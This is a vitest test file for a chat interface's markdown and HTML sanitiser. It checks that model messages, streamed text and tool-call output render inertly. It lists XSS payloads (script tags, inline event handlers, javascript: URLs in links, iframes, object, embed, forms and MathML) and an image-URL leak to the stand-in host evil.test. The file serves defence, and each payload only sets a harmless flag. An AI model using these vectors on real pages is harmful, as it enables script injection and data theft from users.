// Model and tool text is untrusted: nothing in it may run. vitest's jsdom runs scripts and
// inline event handlers (in the page's own window, `jsdom.window`), so anything that slipped
// through would really set `pwned` there.
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { FakeModel, message, nextFrame, toolCall, unmountAll, view } from "./fake-model";
import { renderMarkdown } from "./markdown";

const page = (globalThis as unknown as { jsdom: { window: { pwned?: string } } }).jsdom.window;

const PAYLOADS = [
  `<script>window.pwned = "script"</script>`,
  `<img src=x onerror="window.pwned = 'img'">`,
  `[click me](javascript:window.pwned='md-link')`,
  `<a href="javascript:window.pwned='a'">link</a>`,
  `<a href=" JaVaScRiPt:window.pwned='spaced'">spaced</a>`,
  `<iframe src="javascript:window.pwned='iframe'"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned='srcdoc'</script>"></iframe>`,
  `<svg onload="window.pwned='svg'"><circle r="5"/></svg>`,
  `<object data="javascript:window.pwned='object'"></object>`,
  `<embed src="javascript:window.pwned='embed'">`,
  `<form action="javascript:window.pwned='form'"><button>go</button></form>`,
  `<div onclick="window.pwned='click'" onmouseover="window.pwned='hover'">hover</div>`,
  `<details open ontoggle="window.pwned='toggle'">x</details>`,
  `<style>body { display: none }</style>`,
  `<math><mi xlink:href="javascript:window.pwned='math'">m</mi></math>`,
].join("\n\n");

const FORBIDDEN_TAGS = "script, iframe, object, embed, form, svg, math, style";
const URL_ATTRIBUTES = ["href", "src", "action", "formaction", "xlink:href", "data"];

/** Everything the sanitiser must guarantee about `root`. */
function expectInert(root: ParentNode): void {
  expect(root.querySelectorAll(FORBIDDEN_TAGS)).toHaveLength(0);
  for (const node of root.querySelectorAll("*")) {
    for (const attribute of node.attributes) {
      expect(attribute.name.toLowerCase().startsWith("on"), `${node.tagName} ${attribute.name}`).toBe(false);
      if (URL_ATTRIBUTES.includes(attribute.name.toLowerCase())) {
        expect(attribute.value.replace(/\s/g, "").toLowerCase()).not.toMatch(/^javascript:/);
      }
    }
  }
}

/** Fires the events the payloads hook into on every element, and clicks every link. */
async function poke(root: ParentNode): Promise<void> {
  for (const node of root.querySelectorAll("*")) {
    for (const type of ["load", "error", "click", "mouseover", "toggle"]) {
      node.dispatchEvent(new Event(type, { bubbles: false }));
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 10));
}

beforeEach(() => {
  page.pwned = undefined;
});
afterEach(async () => {
  await unmountAll();
  // Nothing may have escaped into the page either.
  expectInert(document);
  expect(page.pwned).toBeUndefined();
});

describe("sanitising", () => {
  it("detects a handler that runs (so the checks below can fail)", async () => {
    const control = document.createElement("div");
    control.innerHTML = `<div onclick="window.pwned='control'"></div>`;
    await poke(control);
    expect(page.pwned).toBe("control");
    page.pwned = undefined;
  });

  it("renders nothing runnable from model markdown", async () => {
    const fragment = renderMarkdown(PAYLOADS);
    const host = document.createElement("div");
    host.append(fragment);
    expectInert(host);
    await poke(host);
    expect(host.textContent).toContain("click me");
    expect(host.textContent).toContain("hover");
  });

  it("renders nothing runnable from finished assistant and user messages", async () => {
    const el = await view(
      new FakeModel({ messages: [message("user", PAYLOADS), message("assistant", PAYLOADS)] }),
    );
    expectInert(el);
    await poke(el);
    // The user's own text is shown as typed.
    expect(el.querySelector('[data-role="user"]')?.textContent).toContain("<script>");
  });

  it("renders nothing runnable from streamed text", async () => {
    const model = new FakeModel({ status: "working" });
    const el = await view(model);
    const draft = message("assistant", "", { status: "in_progress" });
    model.receive({ kind: "draft", message: draft });
    // Split mid-tag so no single delta holds a whole payload.
    for (let i = 0; i < PAYLOADS.length; i += 7) {
      model.receive({ kind: "delta", message_id: draft.id, text: PAYLOADS.slice(i, i + 7) });
    }
    await nextFrame();
    expect(el.querySelector('[data-testid="draft"]')?.textContent).toContain("click me");
    expectInert(el);
    await poke(el);
  });

  it("shows tool arguments, results and errors as text", async () => {
    const calls = [
      toolCall({ name: `<img src=x onerror="window.pwned='name'">`, arguments: PAYLOADS, result: PAYLOADS }),
      toolCall({
        id: "call_2",
        status: "failed",
        arguments: JSON.stringify({ html: PAYLOADS }),
        result: JSON.stringify(PAYLOADS),
        error: PAYLOADS,
      }),
    ];
    const model = new FakeModel({ messages: [message("assistant", "", { tool_calls: calls })] });
    const el = await view(model);
    expectInert(el);
    await poke(el);
    const cards = el.querySelectorAll('[data-testid="tool-call"]');
    expect(cards[0].querySelector(".cw-tool-result")?.textContent).toBe(PAYLOADS);
    expect(cards[1].querySelector(".cw-tool-error")?.textContent).toBe(PAYLOADS);
    expect(cards[1].querySelector(".cw-tool-result")?.textContent).toBe(PAYLOADS);
    expect(cards[1].querySelector(".cw-tool-arguments")?.textContent).toContain("<script>");
  });

  it("shows streamed tool arguments as text", async () => {
    const model = new FakeModel({ status: "working" });
    const el = await view(model);
    const draft = message("assistant", "", { status: "in_progress" });
    model.receive({ kind: "draft", message: draft });
    model.receive({
      kind: "delta",
      message_id: draft.id,
      tool_calls: [{ index: 0, id: "call_1", name: "run", arguments: PAYLOADS }],
    });
    await nextFrame();
    expectInert(el);
    await poke(el);
    expect(el.querySelector(".cw-tool-arguments")?.textContent).toBe(PAYLOADS);
  });

  it("opens safe links in a new tab without access to the notebook", () => {
    const host = document.createElement("div");
    host.append(renderMarkdown("[docs](https://example.com/docs) and <a href='https://x.test'>x</a>"));
    const links = [...host.querySelectorAll("a")];
    expect(links).toHaveLength(2);
    for (const link of links) {
      expect(link.getAttribute("target")).toBe("_blank");
      expect(link.getAttribute("rel")).toBe("noopener noreferrer");
    }
    expect(links[0].getAttribute("href")).toBe("https://example.com/docs");
  });

  it("never loads a remote image by itself (no data leaks through image URLs)", () => {
    const host = document.createElement("div");
    host.append(
      renderMarkdown(
        "![chart](https://evil.test/leak?secret=42) <img src='http://evil.test/x.png' alt='x'> " +
          "![dot](data:image/png;base64,iVBORw0KGgo=)",
      ),
    );
    const images = [...host.querySelectorAll("img")];
    expect(images.map((img) => img.getAttribute("src"))).toEqual(["data:image/png;base64,iVBORw0KGgo="]);
    const links = [...host.querySelectorAll("a.cw-image-link")];
    expect(links.map((a) => a.textContent)).toEqual(["[image: chart]", "[image: x]"]);
    expect(links[0].getAttribute("href")).toBe("https://evil.test/leak?secret=42");
  });
});
